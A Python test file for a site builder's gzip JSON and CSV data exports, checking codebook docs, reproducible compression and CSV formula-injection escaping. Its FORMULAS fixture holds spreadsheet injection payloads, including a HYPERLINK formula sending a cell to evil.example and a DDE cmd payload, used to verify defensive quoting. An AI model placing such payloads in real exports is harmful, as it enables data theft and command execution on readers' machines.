"""Downloads: every table as gzip-compressed JSON and CSV, each column documented in the codebook."""

from __future__ import annotations

import csv
import dataclasses
import datetime
import gzip
import io
import json
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder import Caches, Generated, GeneratedFile, Site, check_content, exports, generate_pages, vocabulary
from builder.exports import (
    FORMULA_STARTS,
    KINDS,
    TABLES,
    TEXT_MARK,
    RowMemo,
    _csv_line,
    _json_document,
    _json_row,
    render_exports,
    size_label,
    table_rows,
)
from builder.index import Index, build_index
from builder.model import ClaimStatus
from builder.schema import schema_text
from builder.vocabulary import Vocabulary
from tests.conftest import FIXTURE_CONTENT, REPO, build_site, make_project
from tests.html import page, text_of
from tests.test_feeds import FALSE_QUOTE_NOTE, TODAY, flagged_index, write_flagged_content

SITE = Site("Tracker", "https://example.org/tracker/")


@pytest.fixture(scope="module")
def index() -> Index:
    return build_index(check_content(FIXTURE_CONTENT, today=datetime.date(2026, 11, 22)))


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _unpacked(files: dict[str, bytes], name: str, extension: str) -> bytes:
    """A table's download as a reader gets it once unpacked: `data/NAME.EXTENSION.gz`, decompressed."""
    return gzip.decompress(files[f"data/{name}.{extension}.gz"])


def _site_file(site: Path, name: str, extension: str) -> bytes:
    return gzip.decompress((site / "data" / f"{name}.{extension}.gz").read_bytes())


def _as_in_csv(value: object) -> str:
    """A JSON value as its CSV cell reads: text a spreadsheet could run as a formula carries one more quote mark."""
    if value is None:
        return ""
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
        return TEXT_MARK + value
    return str(value)


def test_codebook_documents_every_column_emitted(fixture_site: Path) -> None:
    codebook = page(fixture_site, "data/")
    for table in TABLES:
        heading = codebook.find(id=table.name)
        assert heading is not None and heading.name == "h2", table.name
        documented = [row.find("td").get_text() for row in heading.find_next("table").find("tbody").find_all("tr")]
        header = next(csv.reader(io.StringIO(_site_file(fixture_site, table.name, "csv").decode("utf-8"))))
        assert documented == header, table.name
        rows = json.loads(_site_file(fixture_site, table.name, "json"))
        assert rows and all(list(row) == documented for row in rows), table.name


def test_codebook_links_every_download_and_schema(fixture_site: Path) -> None:
    codebook = page(fixture_site, "data/")
    hrefs = {a["href"] for a in codebook.select("article a[href]")}
    for table in TABLES:
        assert {f"{table.name}.json.gz", f"{table.name}.csv.gz"} <= hrefs, table.name
        assert not {f"{table.name}.json", f"{table.name}.csv"} & hrefs, table.name
    schemas = sorted(p.name for p in (fixture_site / "data" / "schemas").glob("*.json"))
    assert {f"schemas/{name}" for name in schemas} <= hrefs
    assert (fixture_site / "data" / "schemas" / "article.schema.json").read_text(encoding="utf-8") == schema_text(
        "article"
    )
    assert "Data" in [a.get_text(strip=True) for a in page(fixture_site, "").select(".md-tabs__link")]
    sizes = {
        kind: size_label((fixture_site / "data" / f"articles.{kind}.gz").stat().st_size) for kind in ("json", "csv")
    }
    assert f"Articles 3 JSON, gzip, {sizes['json']} · CSV, gzip, {sizes['csv']}" in text_of(codebook)
    assert "pandas.read_csv(URL) infers it from the name" in text_of(codebook)


def test_every_link_of_the_codebook_leads_to_a_file_of_the_size_it_shows(fixture_site: Path) -> None:
    codebook = page(fixture_site, "data/")
    downloads = {}
    for link in codebook.select("article a[href]"):
        href = link["href"]
        if href.startswith("#") or href.endswith("/") or "#" in href:
            continue  # a heading's permalink, or a page of the site
        target = fixture_site / "data" / href
        assert target.is_file(), href
        if href.endswith(".gz"):
            downloads[href] = link.get_text()
            kind = "JSON" if href.endswith(".json.gz") else "CSV"
            assert link.get_text() == f"{kind}, gzip, {size_label(target.stat().st_size)}", href
            assert gzip.decompress(target.read_bytes()), href
    expected = {f"{t.name}.{kind}.gz" for t in TABLES for kind in ("json", "csv")}
    assert set(downloads) == expected
    assert sorted(p.name for p in (fixture_site / "data").iterdir() if p.suffix == ".gz") == sorted(expected)


def test_size_labels_read_as_readers_expect() -> None:
    assert [size_label(n) for n in (0, 812, 1_000, 1_449, 96_400, 999_499, 4_588_732, 24_944_754)] == [
        "0 bytes",
        "812 bytes",
        "1.0 kB",
        "1.4 kB",
        "96 kB",
        "999 kB",
        "4.6 MB",
        "25 MB",
    ]


def test_csv_and_json_hold_the_same_rows(index: Index) -> None:
    files = render_exports(index, SITE)
    for table in TABLES:
        from_json = json.loads(gzip.decompress(files[table.file("json")]))
        from_csv = _csv_rows(gzip.decompress(files[table.file("csv")]))
        assert len(from_json) == len(from_csv) == len(list(table.rows(index))), table.name
        for json_row, csv_row in zip(from_json, from_csv, strict=True):
            for column in table.columns:
                assert csv_row[column.name] == _as_in_csv(json_row[column.name]), (table.name, column.name)


def test_rows_carry_ids_dates_lists_and_page_addresses(index: Index) -> None:
    files = render_exports(index, SITE)
    events = json.loads(_unpacked(files, "events", "json"))
    assert events[0] == {
        "article": "2026-01-05-first-round",
        "number": 1,
        "id": "geneva-round-one",
        "date": "2026-01-04",
        "type": "talks",
        "what": "Delegations of Alphaland and Betastan met in Geneva.",
        "place": "Geneva",
        "actors": ["alpha-state", "beta-state"],
        "roles": ["participant", "participant"],
        "topics": ["talks"],
        "claim": None,
        "claim_status": None,
        "page": "https://example.org/tracker/articles/2026-01-05-first-round/#event-1",
    }
    assert events[1]["date"] == "2025-12" and events[1]["id"] is None
    actors = {row["id"]: row for row in json.loads(_unpacked(files, "actors", "json"))}
    assert actors["ada-alpha"]["aliases"] == ["Ada Alfa", "Ada Alphova"]
    # The fixture is edited as features come: the count is checked against the summaries that name her.
    mentioning = [a for a in index.articles if "ada-alpha" in a.mentioned_actors]
    assert actors["ada-alpha"]["articles"] == len(mentioning) >= 2
    assert actors["gamma-league"]["articles"] == 0


def test_hostile_text_is_plain_data_in_csv_and_json(
    content_dir: Path, edit_yaml: Callable[[Path, str, str], None]
) -> None:
    hostile = 'a "quoted", comma\\nnew line; =HYPERLINK("x") </script> ü'
    edit_yaml(
        content_dir / "articles" / "2026-01-05-first-round.yaml",
        "headline: First round of talks opens",
        f'headline: "{hostile.replace(chr(34), chr(92) + chr(34))}"',
    )
    files = render_exports(build_index(check_content(content_dir)), SITE)
    expected = 'a "quoted", comma\nnew line; =HYPERLINK("x") </script> ü'
    assert expected in [row["headline"] for row in json.loads(_unpacked(files, "articles", "json"))]
    assert expected in [row["headline"] for row in _csv_rows(_unpacked(files, "articles", "csv"))]


FORMULAS = {
    # One text column or more of every table, each starting as a spreadsheet formula would.
    "articles/2026-01-05-first-round.yaml": [
        ("headline: First round of talks opens", 'headline: \'=HYPERLINK("https://evil.example/?"&A1,"open")\''),
        ("author: A. Reporter", "author: '@SUM(1+1)'"),
        ("reliability: A wire", "reliability: +A wire"),
        ("  Alphaland and Betastan met for a first round", "  -2+3 Alphaland and Betastan met for a first round"),
        ("  - The parties met.", "  - '=1+1'"),
        ("what: Delegations of Alphaland and Betastan met in Geneva.", 'what: "\\tDelegations met in Geneva."'),
        ("place: Geneva\n  - date", 'place: "\\rGeneva"\n  - date'),
        ("text: We came here", "text: =cmd|' /C calc'!A0 We came here"),
        ("text: Betastan is ready for a ceasefire.", "text: '-Betastan is ready for a ceasefire.'"),
        (
            "note: Both governments announced the talks a month ahead.",
            'note: "\'Both governments announced the talks a month ahead."',
        ),
    ],
    "actors.yaml": [("name: Alphaland", "name: '@Alphaland'"), ("description: A state at war.", "description: =1")],
    "topics.yaml": [("description: A halt to the fighting.", "description: '+A halt, to the fighting'")],
    "outlets.yaml": [
        ("country: Nowhere", "country: '-Nowhere'"),
        ("description: A wire service.", "description: '=A'"),
    ],
}


def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(
    content_dir: Path, edit_yaml: Callable[[Path, str, str], None]
) -> None:
    for name, edits in FORMULAS.items():
        for old, new in edits:
            edit_yaml(content_dir / name, old, new)
    files = render_exports(build_index(check_content(content_dir)), SITE)
    marked: dict[str, list[str]] = {}
    for table in TABLES:
        raw = gzip.decompress(files[table.file("csv")]).decode("utf-8")
        from_json, from_csv = _tables(files, table.name)
        for json_row, csv_row in zip(from_json, from_csv, strict=True):
            for column in table.columns:
                value, cell = json_row[column.name], csv_row[column.name]
                assert not cell.startswith(FORMULA_STARTS), (table.name, column.name, cell)
                if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
                    # OWASP: a single quote before the text, and the cell always quoted.
                    assert cell == TEXT_MARK + value, (table.name, column.name)
                    assert '"' + TEXT_MARK + value.replace('"', '""') + '"' in raw, (table.name, column.name)
                    marked.setdefault(table.name, []).append(column.name)
                else:
                    assert cell == _as_in_csv(value), (table.name, column.name)
    assert marked == {
        "articles": ["headline", "author", "reliability", "summary"],
        "events": ["what", "place"],
        "quotes": ["text"],
        "claims": ["text", "note"],
        "actors": ["name", "description"],
        "topics": ["description"],
        "outlets": ["country", "description"],
    }
    # JSON keeps the exact text, and a list is JSON text in its cell, which starts with "[".
    articles = {row["id"]: row for row in json.loads(_unpacked(files, "articles", "json"))}
    assert articles["2026-01-05-first-round"]["headline"] == '=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert articles["2026-01-05-first-round"]["key_points"] == ["=1+1"]
    first_round = {row["id"]: row for row in _csv_rows(_unpacked(files, "articles", "csv"))}["2026-01-05-first-round"]
    assert first_round["key_points"] == '["=1+1"]'
    events = json.loads(_unpacked(files, "events", "json"))
    assert (events[0]["what"][:1], events[0]["place"]) == ("\t", "\rGeneva")


def test_numbers_stay_numbers_in_csv_even_negative_ones() -> None:
    assert _csv_line([-3, 2, "-3", None, ["-3"]]) == '-3,2,"\'-3","","[""-3""]"\r\n'
    integers = {(t.name, c.name) for t in TABLES for c in t.columns if c.kind == "integer"}
    assert integers == {
        ("articles", "information_credibility"),
        ("events", "number"),
        ("quotes", "number"),
        ("claims", "credibility"),
        ("actors", "articles"),
        ("topics", "articles"),
        ("outlets", "articles"),
    }


def test_the_codebook_says_how_csv_marks_formulas(fixture_site: Path) -> None:
    text = text_of(page(fixture_site, "data/"))
    assert "a tab, a carriage return, a null character or ' has one more ' put before it" in KINDS["text"]
    assert " ".join(KINDS["text"].split()) in text
    assert "as OWASP advises for CSV files" in text
    assert "drop the first ' of every cell that starts with one" in text


def test_exports_are_the_same_on_every_build(index: Index) -> None:
    assert render_exports(index, SITE) == render_exports(index, SITE)


def test_two_builds_give_byte_identical_gzip_files_of_the_same_tables(
    fixture_site: Path, tmp_path: Path, index: Index
) -> None:
    again = build_site(make_project(tmp_path / "again"))
    for table in TABLES:
        for kind in ("csv", "json"):
            first, second = (site / "data" / f"{table.name}.{kind}.gz" for site in (fixture_site, again))
            assert first.read_bytes() == second.read_bytes(), first.name
    files = render_exports(index, SITE)
    for table in TABLES:
        rows = table_rows(table, index, SITE)
        # What the uncompressed downloads were, written from the rows as they were before compression.
        header = _csv_line([column.name for column in table.columns])
        lines = "".join(_csv_line([row[column.name] for column in table.columns]) for row in rows)
        assert gzip.decompress(files[table.file("csv")]) == (header + lines).encode("utf-8"), table.name
        assert gzip.decompress(files[table.file("json")]) == _json_document([_json_row(row) for row in rows])
        for data in (files[table.file("csv")], files[table.file("json")]):
            # RFC 1952: deflate, no flag (no file name, no comment), modification time 0, any operating system.
            assert data[:10] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00" + bytes([data[8], 255]), table.name
            assert data[8] == {1: 4, 9: 2}.get(exports.GZIP_LEVEL, 0)
            assert zlib.decompress(data, wbits=31) == gzip.decompress(data)  # a single, complete member
    assert files["data/schemas/article.schema.json"] == schema_text("article").encode("utf-8")


def test_a_gzip_file_depends_on_its_data_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    data = b'"id","headline"\r\n' * 500
    first = exports.gzipped(data)
    monkeypatch.setattr(time, "time", lambda: 2_000_000_000.0)  # gzip's default modification time
    assert exports.gzipped(data) == first
    with gzip.GzipFile(fileobj=io.BytesIO(first)) as unpacked:
        assert unpacked.read() == data
        assert unpacked.mtime == 0
    assert gzip.decompress(exports.gzipped(b"")) == b""


def _tables(files: dict[str, bytes], name: str) -> tuple[list[dict], list[dict[str, str]]]:
    return json.loads(_unpacked(files, name, "json")), _csv_rows(_unpacked(files, name, "csv"))


def test_quote_rows_carry_each_quotes_status_and_note(tmp_path: Path) -> None:
    files = render_exports(flagged_index(tmp_path), SITE)
    from_json, from_csv = _tables(files, "quotes")
    header = next(csv.reader(io.StringIO(_unpacked(files, "quotes", "csv").decode("utf-8"))))
    assert header[-3:] == ["status", "note", "page"]
    expected = {
        ("2026-03-02-envoy-quote", 1): ("We will keep talking.", "reported", None),
        ("2026-03-02-envoy-quote", 2): ("There will be a deal within a week.", "false", FALSE_QUOTE_NOTE),
        ("2026-03-05-quiet-talks", 1): ("The talks go on.", "confirmed", None),
    }
    assert {(r["article"], r["number"]): (r["text"], r["status"], r["note"]) for r in from_json} == expected
    assert {(r["article"], int(r["number"])): (r["text"], r["status"], r["note"]) for r in from_csv} == {
        key: (text, status, note or "") for key, (text, status, note) in expected.items()
    }


def test_event_rows_carry_the_status_of_the_claim_they_rest_on(tmp_path: Path) -> None:
    files = render_exports(flagged_index(tmp_path), SITE)
    from_json, from_csv = _tables(files, "events")
    expected = {
        ("2026-03-03-truce", 1): ("Envoys met in secret.", "secret-meeting", "unverifiable"),
        ("2026-03-03-truce", 2): ("Southland released a statement.", None, None),
        ("2026-03-03-truce", 3): ("Northland set a date for talks.", "talks-set", "reported"),
    }
    assert {(r["article"], r["number"]): (r["what"], r["claim"], r["claim_status"]) for r in from_json} == expected
    assert {(r["article"], int(r["number"])): (r["what"], r["claim"], r["claim_status"]) for r in from_csv} == {
        key: (what, claim or "", status or "") for key, (what, claim, status) in expected.items()
    }
    header = next(csv.reader(io.StringIO(_unpacked(files, "events", "csv").decode("utf-8"))))
    assert header[-3:] == ["claim", "claim_status", "page"]


def test_claim_rows_carry_their_status_and_the_actors_they_are_about(tmp_path: Path) -> None:
    files = render_exports(flagged_index(tmp_path), SITE)
    from_json, from_csv = _tables(files, "claims")
    expected = {
        "secret-meeting": ("outlet", ["envoy-ema", "max-mediator"], "unverifiable"),
        "talks-set": ("northland", [], "reported"),
        "truce-broken": ("southland", ["northland"], "disputed"),
    }
    assert {r["id"]: (r["by"], r["about"], r["status"]) for r in from_json} == expected
    # In the CSV a list is the same array written as JSON text, as for every other list column.
    assert {r["id"]: (r["by"], r["about"], r["status"]) for r in from_csv} == {
        claim_id: (by, json.dumps(about), status) for claim_id, (by, about, status) in expected.items()
    }
    assert [r["id"] for r in from_csv] == ["truce-broken", "secret-meeting", "talks-set"]  # as the summary lists them


def test_the_codebook_explains_the_status_columns() -> None:
    described = {(t.name, c.name): (c.kind, c.meaning) for t in TABLES for c in t.columns}
    for key in (("quotes", "status"), ("events", "claim_status"), ("claims", "status")):
        kind, description = described[key]
        assert kind == "code", key
        assert all(status.value in description for status in ClaimStatus), key
    assert described["claims", "about"][0] == "list"
    assert described["quotes", "note"][0] == "text"
    for key in (("articles", "source_kind"), ("outlets", "kind")):
        assert "unidentified" in described[key][1] and "ai-generated" in described[key][1], key


def test_the_codebook_lists_the_codes_of_the_sites_own_vocabulary() -> None:
    own = Vocabulary(
        source_kinds=(("wire", "Wire"), ("podcast", "Podcast"), ("state-media", "State media")),
        stances=(("appeal", "Appeal"), ("demand", "Demand")),
    )
    vocabulary.use(own)
    try:
        described = {(t.name, c.name): c.meaning for t in TABLES for c in t.columns}
    finally:
        vocabulary.use(vocabulary.DEFAULT)
    assert (
        "wire, podcast or state-media. Readers are warned of state-media sources"
        in described["articles", "source_kind"]
    )
    assert described["outlets", "kind"].endswith("wire, podcast or state-media.")
    assert described["quotes", "stance"] == "The stance it takes on the topic: appeal or demand."
    assert "$" not in "".join(described.values())


def test_a_status_edit_changes_the_rows_under_serve(
    tmp_path: Path, edit_yaml: Callable[[Path, str, str], None]
) -> None:
    content = write_flagged_content(tmp_path)
    caches = Caches()

    def cached() -> dict[str, bytes]:
        pages = generate_pages(check_content(content, TODAY, caches), SITE, caches)
        clean = generate_pages(check_content(content, TODAY), SITE)
        data = [path for path, file in clean.items() if isinstance(file, GeneratedFile) and path.startswith("data/")]
        assert [path for path in data if pages[path] != clean[path]] == []
        return {path: pages[path].data for path in data}

    cached()
    truce = content / "articles" / "2026-03-03-truce.yaml"
    edit_yaml(truce, "status: unverifiable\n    credibility: 4", 'status: "false"\n    credibility: 5')
    edit_yaml(content / "articles" / "2026-03-02-envoy-quote.yaml", 'status: "false"', "status: disputed")
    files = cached()
    events = {(r["article"], int(r["number"])): r["claim_status"] for r in _csv_rows(_unpacked(files, "events", "csv"))}
    assert events[("2026-03-03-truce", 1)] == "false"
    quotes = {(r["article"], r["number"]): r["status"] for r in json.loads(_unpacked(files, "quotes", "json"))}
    assert quotes[("2026-03-02-envoy-quote", 2)] == "disputed"


def test_a_kept_event_row_is_written_again_when_its_claim_changes(tmp_path: Path) -> None:
    # Today an event's claim is in its own file, so an edit of it gives a new event; the memo does not rely on it.
    index = flagged_index(tmp_path)
    memo = RowMemo()
    render_exports(index, SITE, memo)
    claims = dict(index.content.claims)
    claims["secret-meeting"] = dataclasses.replace(claims["secret-meeting"], status=ClaimStatus.CONFIRMED)
    edited = dataclasses.replace(index, content=dataclasses.replace(index.content, claims=claims))
    files = render_exports(edited, SITE, memo)
    assert files == render_exports(edited, SITE)
    rows = {(r["article"], r["number"]): r["claim_status"] for r in json.loads(_unpacked(files, "events", "json"))}
    assert rows[("2026-03-03-truce", 1)] == "confirmed"


def test_only_a_table_whose_rows_changed_is_compressed_again_under_serve(
    tmp_path: Path, edit_yaml: Callable[[Path, str, str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    content = write_flagged_content(tmp_path)
    caches = Caches()
    compressed: list[bytes] = []
    gzipped = exports.gzipped
    monkeypatch.setattr(exports, "gzipped", lambda data: compressed.append(data) or gzipped(data))

    def cached() -> dict[str, bytes]:
        compressed.clear()
        pages = generate_pages(check_content(content, TODAY, caches), SITE, caches)
        return _downloads(pages)

    first = cached()
    assert len(compressed) == 2 * len(TABLES)
    assert cached() == first and compressed == []
    edit_yaml(content / "articles" / "2026-03-02-envoy-quote.yaml", 'status: "false"', "status: disputed")
    edited = cached()
    changed = sorted(path for path in first if edited[path] != first[path])
    assert changed == ["data/quotes.csv.gz", "data/quotes.json.gz"]
    assert sorted(compressed) == sorted(gzip.decompress(edited[path]) for path in changed)
    assert edited == _downloads(generate_pages(check_content(content, TODAY), SITE))


def _downloads(pages: dict[str, Generated]) -> dict[str, bytes]:
    """The data files of a build: the tables and the schemas."""
    return {
        path: file.data for path, file in pages.items() if isinstance(file, GeneratedFile) and path.startswith("data/")
    }


def test_real_rows_carry_the_statuses_of_the_content() -> None:
    index = build_index(check_content(REPO / "content"))
    files = render_exports(index, SITE)
    quotes = {q.anchor + "@" + q.article: q for a in index.articles for q in a.quotes}
    for row in json.loads(_unpacked(files, "quotes", "json")):
        quote = quotes[f"quote-{row['number']}@{row['article']}"]
        assert (row["status"], row["note"]) == (quote.status.value, quote.note or None), row["page"]
    events = json.loads(_unpacked(files, "events", "json"))
    for row in events:
        claim = index.content.claims.get(row["claim"] or "")
        assert row["claim_status"] == (claim.status.value if claim else None), row["page"]
    assert any(row["claim_status"] in ("disputed", "false", "unverifiable") for row in events)
    for row in json.loads(_unpacked(files, "claims", "json")):
        claim = index.content.claims[row["id"]]
        assert (row["status"], row["about"]) == (claim.status.value, list(claim.about)), row["id"]


_json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.dictionaries(st.text(), _json_scalars | st.lists(_json_scalars)), max_size=4))
def test_a_download_reads_back_as_its_rows_one_row_a_line(rows: list[dict[str, object]]) -> None:
    document = _json_document([_json_row(row) for row in rows]).decode("utf-8")
    assert json.loads(document) == rows
    lines = document.split("\n")
    assert [json.loads(line.rstrip(",")) for line in lines[1:-2]] == rows


_csv_text = st.text(alphabet=st.sampled_from("a ,\"\r\n\t'é—=+-@\0") | st.characters(), max_size=12)


def _written(cells: list[str], quoting: int) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, quoting=quoting).writerow(cells)
    return buffer.getvalue()


@settings(max_examples=500, deadline=None)
@given(st.lists(st.none() | st.integers() | _csv_text | st.lists(_csv_text | st.integers()), max_size=6))
def test_a_csv_line_quotes_every_text_and_reads_back_as_meant(cells: list[object]) -> None:
    """Every text cell quoted (numbers bare), a text a spreadsheet could run marked; read back, each cell is what was meant."""
    line = _csv_line(cells)
    assert next(csv.reader(io.StringIO(line, newline=""))) == [_as_in_csv(cell) for cell in cells]
    read = next(csv.reader(io.StringIO(line, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert [isinstance(value, float) for value in read] == [isinstance(cell, int) for cell in cells]
